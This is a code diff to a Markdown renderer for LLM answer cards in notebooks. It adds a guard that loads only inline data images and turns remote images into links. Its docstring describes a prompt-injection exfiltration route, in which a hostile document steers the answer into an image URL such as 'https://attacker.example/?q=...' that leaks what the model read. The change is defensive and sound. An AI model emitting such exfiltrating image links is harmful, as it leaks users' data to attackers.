@@ -5,7 +5,8 @@ Uses mistune 3 when it is installed (it comes with nbconvert / Jupyter), with ra
 otherwise a small built-in renderer that covers what model answers mostly contain: fenced code,
 headings, lists, block quotes, paragraphs, **bold**, *italic*, `code` and [links](https://...).
 Either way, nothing from the answer is ever passed through as raw HTML, `javascript:` / `data:`
-links are neutralised, and links open in a new tab (`target=_blank rel="noopener noreferrer"`).
+links are neutralised, links open in a new tab (`target=_blank rel="noopener noreferrer"`), and
+an image is loaded only when it is inline data (others become links: see `_image`).
 The HTML carries classes only; `style.py` holds the stylesheet (theme CSS variables).
 """
 
@@ -75,6 +76,9 @@ def _mistune():
                 def link(self, text, url, title=None):  # noqa: D401
                     return super().link(text, url, title).replace("<a", "<a" + _LINK_ATTRS, 1)
 
+                def image(self, text, url, title=None):  # noqa: D401
+                    return _image(self, text, url, title)
+
                 def table(self, text):  # wide tables scroll inside the card
                     return f'<div class="llmcells-table"><table>\n{text}</table></div>\n'
 
@@ -86,6 +90,30 @@ def _mistune():
                 swallowed("building the mistune renderer (the simple one instead)", exc)
                 _md = False
     return _md or None
+
+
+#: an image the card can show without a request: inline data of a raster type
+_INLINE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);", re.I)
+
+
+def _image(renderer, text: str, url: str, title: str | None) -> str:
+    """An answer's Markdown image. Loading it would send a request the moment the card is shown
+    (or a saved notebook opened), and an answer steered by a hostile document can put anything
+    it read into that URL (`![](https://attacker.example/?q=...)`): so only inline data images
+    are shown, and any other becomes a link the user may open, unless
+    `configure(remote_images=True)`. Either way no referrer goes with it."""
+    from ..config import settings
+
+    if settings.remote_images or _INLINE_IMAGE.match(url.strip()):
+        return renderer.__class__.__mro__[1].image(renderer, text, url, title).replace(
+            "<img", '<img referrerpolicy="no-referrer"', 1)
+    from mistune.util import striptags
+
+    label = striptags(text).strip() or "image"  # (text is the alt text as HTML, escaped already)
+    where = escape(url.strip()[:200])
+    return (f'<a class="llmcells-image-link" href="{renderer.safe_url(url)}"{_LINK_ATTRS} '
+            f'title="image not loaded (configure(remote_images=True) shows images): {where}">'
+            f"[image: {label}]</a>")
 
 
 # ----- the small built-in renderer ----------------------------------------------------------
